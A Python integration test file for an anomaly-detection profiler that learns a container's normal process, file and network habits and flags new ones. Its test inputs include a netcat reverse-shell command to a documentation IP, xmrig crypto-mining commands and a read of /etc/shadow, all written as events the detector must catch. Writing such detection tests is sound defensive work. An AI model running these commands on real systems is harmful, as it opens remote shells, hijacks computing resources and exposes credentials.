# SPDX-License-Identifier: Apache-2.0
"""The profiler as a process on a real nats-server."""

import asyncio
import subprocess
import sys

import msgspec

from habitus import subjects, wire
from habitus.events import File, Network
from habitus.images import partition_of
from habitus.profiles import ProfileReply


def work(make, number=0, **more):
    """Some of the ordinary work of a web application."""
    stamp = 1_764_000_000 + number
    return [
        make(["java", "-jar", "/app/app.jar", f"--run-id={stamp}"], **more),
        make(["tar", "czf", f"/backup/db-{stamp}.tar.gz", "/data"], **more),
        make(["sh", "-c", f"curl -fsS http://api.shop.svc/health?t={stamp} >/dev/null && echo ok"], **more),
    ]


def days(make, first, last, **more):
    return [event for number in range(first, last) for event in work(make, number, **more)]


async def test_what_was_learned_is_known_and_what_was_not_is_an_anomaly(stack, embedder, make):
    """After `converge` new timestamps are known; a new program, place or argument is not."""
    await stack.start()
    after = await stack.feed(days(make, 0, 20))
    reply = await stack.ask("converge", after=after)
    assert reply.error is None
    assert [each.state for each in reply.summaries] == ["detect"]
    odd = [
        make(["./xmrig", "-o", "pool.minexmr.com:4444"], exe="/tmp/xmrig"),
        make(["./java", "-o", "stratum+tcp://pool.minexmr.com:4444"], exe="/tmp/java"),
        make(["./java", "-o", "stratum+tcp://pool.minexmr.com:4444"]),
        make(["java", "upload", "quux", "zebra"]),
    ]
    after = await stack.feed(days(make, 100, 110) + odd)
    await stack.ask("sync", after=after)
    found = {anomaly.event.id: anomaly for anomaly in await stack.anomalies()}
    reasons = [found[event.id].reason for event in odd]
    assert reasons == ["unknown-path", "novel-slot", "novel-slot", "unknown-argument"]
    assert len(found) == 4
    assert found[odd[0].id].path == ["webapp:v1", "bash", "xmrig"]
    assert found[odd[3].id].nearest
    assert found[odd[3].id].model == "test"  # of the fixture
    assert 0 < found[odd[3].id].nearest[0].cosine < found[odd[3].id].threshold <= 1
    assert all(anomaly.id == f"{anomaly.event.id}:{anomaly.reason}" for anomaly in found.values())


async def learned(stack, make, **settings):
    """Start, learn twenty rounds, converge."""
    await stack.start(**settings)
    after = await stack.feed(days(make, 0, 20))
    reply = await stack.ask("converge", after=after)
    assert reply.error is None
    return reply


async def reasons(stack):
    return sorted((anomaly.event.id, anomaly.reason) for anomaly in await stack.anomalies())


async def test_a_quiet_window_of_event_time_turns_learn_into_detect(stack, embedder, make):
    """No operator is needed: after a window without news the profile judges."""
    await stack.start(window_s=60, min_events=30)
    await stack.feed(days(make, 0, 15))
    await stack.ask("sync", after=await stack.feed(work(make, 1)))
    assert (await stack.ask("list")).summaries[0].state == "learn"
    await stack.feed(days(make, 20, 60))

    async def detects():
        return [each.state for each in (await stack.ask("list")).summaries] == ["detect"]

    await stack.until(detects)
    summary = (await stack.ask("list")).summaries[0]
    assert summary.converged is not None
    assert summary.convergence.window_new == 0
    assert summary.convergence.unseen == 0
    assert summary.convergence.curve
    odd = make(["nc", "-e", "/bin/sh", "203.0.113.9", "4444"])
    await stack.ask("sync", after=await stack.feed([odd]))
    assert await reasons(stack) == [(odd.id, "unknown-path")]


async def test_a_profile_that_goes_quiet_converges_without_a_further_event(stack, embedder, make):
    """The timer sees the window pass."""
    await stack.start(window_s=1.5, min_events=10)
    await stack.feed(days(make, 0, 1, at=0) + days(make, 1, 8, at=0.1))

    async def detects():
        return [each.state for each in (await stack.ask("list")).summaries] == ["detect"]

    await stack.until(detects)


async def test_a_profile_that_sees_news_goes_on_learning(stack, embedder, make):
    """New programs inside the window keep the profile in learn; new timestamps do not."""
    await stack.start(window_s=60, min_events=10)
    events = []
    for number in range(60):
        events += work(make, number)
        events.append(make([f"prog-{'abcdefghij'[number % 10] * (2 + number // 10)}"]))
    await stack.ask("sync", after=await stack.feed(events))
    summary = (await stack.ask("list")).summaries[0]
    assert summary.state == "learn"
    assert summary.convergence.window_new > 0


async def test_killed_while_judging_no_anomaly_is_lost_and_none_doubled(stack, embedder, make):
    """Batches that were not acknowledged come again; their anomalies have the same id."""
    await learned(stack, make)
    odd = [make(["./xmrig", f"--{'x' * (number + 1)}"], exe="/tmp/xmrig") for number in range(60)]
    await stack.feed(odd[:30])
    stack.kill()
    after = await stack.feed(odd[30:])
    await stack.start()
    await stack.ask("sync", after=after, timeout=60)
    assert await reasons(stack) == sorted((event.id, "unknown-path") for event in odd)


async def test_without_embedder_paths_and_slots_alert_at_once_and_arguments_wait(stack, embedder, make):
    """Only what needs a vector is held up, and is judged when the embedder is back."""
    await learned(stack, make)
    await embedder.stop()
    argument = make(["java", "upload", "quux", "zebra"])
    await stack.feed([argument])
    path = make(["nc", "203.0.113.9"])
    slot = make(["java", "-jar", "/tmp/app.jar"])
    await stack.feed([path, slot])

    async def two():
        return len(await stack.anomalies()) == 2

    await stack.until(two)
    assert await reasons(stack) == sorted([(path.id, "unknown-path"), (slot.id, "novel-slot")])
    await embedder.start()

    async def three():
        return len(await stack.anomalies()) == 3

    await stack.until(three)
    assert (argument.id, "unknown-argument") in await reasons(stack)


async def test_learning_goes_on_without_embedder_and_converge_waits_for_its_vectors(stack, embedder, make):
    """Forms and slots are learned at once, vectors when they can be had."""
    await embedder.stop()
    await stack.start()
    after = await stack.feed(days(make, 0, 20))

    async def all_seen():
        found = (await stack.ask("list")).summaries
        return bool(found) and found[0].convergence.events == 60

    await stack.until(all_seen)
    assert (await stack.ask("list")).summaries[0].vectors == 0
    await embedder.start()
    reply = await stack.ask("converge", after=after)
    assert reply.summaries[0].vectors == 3


async def test_a_message_of_another_schema_is_parked_and_the_rest_goes_on(stack, embedder, make, bus):
    """An unknown major version is refused with its reason, not dropped."""
    await stack.start()
    partition = partition_of("webapp:v1")
    odd = msgspec.msgpack.encode({"schema": "2.0", "events": []})
    await bus.js.publish(subjects.events("process", partition), odd)
    await stack.ask("sync", after=await stack.feed(days(make, 0, 1)))
    message = await bus.js.get_msg(subjects.PARKED, 1)
    assert message.data == odd
    assert "schema version '2.0'" in message.headers["Habitus-Why"]
    assert (await stack.ask("list")).summaries[0].convergence.events == 3


async def test_an_event_that_cannot_be_judged_is_parked_and_its_batch_is_kept(stack, embedder, make, bus):
    """One line in the log names what is missing."""
    await stack.start()
    faulty = make(["java"])
    faulty.op = "open"
    batch = wire.EventBatch(events=[*days(make, 0, 1), faulty])
    ack = await bus.js.publish(subjects.events("process", partition_of("webapp:v1")), wire.encode(batch))
    await stack.ask("sync", after=ack.seq)
    assert (await stack.ask("list")).summaries[0].convergence.events == 3
    message = await bus.js.get_msg(subjects.PARKED, 1)
    assert "op 'open' is none of class 'process'" in message.headers["Habitus-Why"]
    assert msgspec.json.decode(message.data)["op"] == "open"


async def test_an_event_that_cannot_be_read_is_parked_and_the_others_of_its_batch_are_judged(
    stack, embedder, make, bus
):
    """What stands before and behind it is told once, and so are the batches behind."""
    await learned(stack, make)
    three = [make(["sh"], parent="init"), make(["other"]), make(["ash"], parent="init")]
    broken = msgspec.msgpack.decode(wire.encode(wire.EventBatch(events=three)))
    broken["events"][1]["process"]["pid"] = "seven"
    data = msgspec.msgpack.encode(broken)
    await bus.js.publish(subjects.events("process", partition_of("webapp:v1")), data)
    await stack.ask("sync", after=await stack.feed([make(["java"], parent="init")]))
    paths = [anomaly.path[1:] for anomaly in await stack.anomalies()]
    assert paths == [["init", "sh"], ["init", "ash"], ["init", "java"]]
    message = await bus.js.get_msg(subjects.PARKED, 1)
    assert msgspec.msgpack.decode(message.data) == broken["events"][1]
    assert message.headers["Habitus-Why"].startswith("event 2 cannot be read: Expected `int | null`")


async def test_frozen_an_image_never_seen_is_judged_even_after_a_restart(stack, embedder, make):
    """Each of its events is an anomaly whose path is the image."""
    await stack.start()
    await stack.ask("converge", "other:1", freeze=True)
    stack.kill()
    await stack.start()
    events = [make(["sh"], image="other:1"), make(["sh"], image="other:1", op="exit")]
    await stack.ask("sync", "other:1", after=await stack.feed(events))
    found = await stack.anomalies()
    assert [(anomaly.reason, anomaly.path) for anomaly in found] == [("unknown-path", ["other:1"])] * 2


async def test_not_frozen_an_image_never_seen_is_learned(stack, embedder, make):
    """`converge` alone turns only the profiles that stand."""
    await learned(stack, make)
    image = next(f"other:{n}" for n in range(999) if partition_of(f"other:{n}") == partition_of("webapp:v1"))
    await stack.ask("sync", after=await stack.feed([make(["sh"], image=image)]))
    states = {each.image_key: each.state for each in (await stack.ask("list")).summaries}
    assert states == {"webapp:v1": "detect", image: "learn"}
    assert await stack.anomalies() == []


async def test_forks_and_exits_are_no_habits_of_their_own(stack, embedder, make):
    """Of an image that is known they are known."""
    await learned(stack, make)
    events = [make(["never-seen"], op="fork"), make(["never-seen"], op="exit")]
    await stack.ask("sync", after=await stack.feed(events))
    assert await stack.anomalies() == []


async def test_an_event_as_large_as_a_message_still_gives_its_anomaly(stack, embedder, make, bus):
    """Its arguments are cut, so that the anomaly fits."""
    await learned(stack, make)
    huge = make(["xmrig", "x" * (bus.nc.max_payload - 600)])
    await stack.ask("sync", after=await stack.feed([huge]))
    [anomaly] = await stack.anomalies()
    assert anomaly.reason == "unknown-path"
    assert anomaly.event.process.argv[1].endswith("…")


async def test_file_and_network_habits_are_judged_too(stack, embedder, make):
    """Each class has its trie; a habit of one image is none of another."""
    await stack.start()

    def acted(class_, op, **parts):
        event = make(["java"], op=op)
        event.class_ = class_
        event.file, event.network = parts.get("file"), parts.get("network")
        return event

    def usual():
        peer = Network(direction="egress", protocol="tcp", remote_ip="10.0.0.9", remote_port=5432)
        return [
            acted("file", "open", file=File(path="/data/in/2026-11-24.csv", flags=["read"])),
            acted("network", "connect", network=peer),
        ]

    after = await stack.feed([event for _ in range(10) for event in usual()])
    await stack.ask("converge", after=after)
    odd = [
        acted("file", "open", file=File(path="/etc/shadow", flags=["read"])),
        acted(
            "network", "connect", network=Network(direction="egress", protocol="tcp", remote_ip="203.0.113.9")
        ),
    ]
    await stack.ask("sync", after=await stack.feed(usual() + odd))
    assert await reasons(stack) == sorted((event.id, "unknown-path") for event in odd)
    paths = {anomaly.event.id: anomaly.path for anomaly in await stack.anomalies()}
    assert paths[odd[0].id] == ["webapp:v1", "java", "read", "etc", "shadow"]
    assert paths[odd[1].id] == ["webapp:v1", "java", "egress tcp", "203.0.113.0/24", "-"]


async def test_a_bad_request_gets_an_error_in_one_line(stack, embedder, make, bus):
    """Nothing an operator sends stops the service."""
    await stack.start()
    data = await bus.request(subjects.profile("show", 3), b"{", 5)
    assert ProfileReply.model_validate_json(data).error
    data = await bus.request(subjects.profile("show", 3), b'{"image_key": "a\\u001b[31m"}', 5)
    assert ProfileReply.model_validate_json(data).error == "show: no profile a\\x1b[31m"


async def test_stopped_it_leaves_a_snapshot_and_nothing_unacknowledged(stack, embedder, make, bus):
    """SIGTERM: what was learned is kept, and the stream is empty."""
    await stack.start(snapshot_s=600)
    await stack.ask("sync", after=await stack.feed(days(make, 0, 5)))
    assert stack.stop() == 0
    assert (await bus.js.stream_info(subjects.EVENTS)).state.messages == 0
    await stack.start()
    assert (await stack.ask("list")).summaries[0].convergence.events == 15


async def test_pages_of_one_s_own_that_cannot_be_read_are_said_at_the_start(server, tmp_path):
    """With the key, the file and what is wrong."""
    (tmp_path / "a.page.toml").write_text("[a]\nmidl = 'x'")
    environment = server.environment | {"HABITUS_PROFILER_MANUALS": str(tmp_path)}
    done = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "habitus_profiler"],
        env=environment,
        capture_output=True,
        timeout=60,
    )
    assert done.returncode != 0
    assert b"profiler.manuals: a.page.toml: [a]: midl" in done.stderr
    assert b"Traceback" not in done.stderr
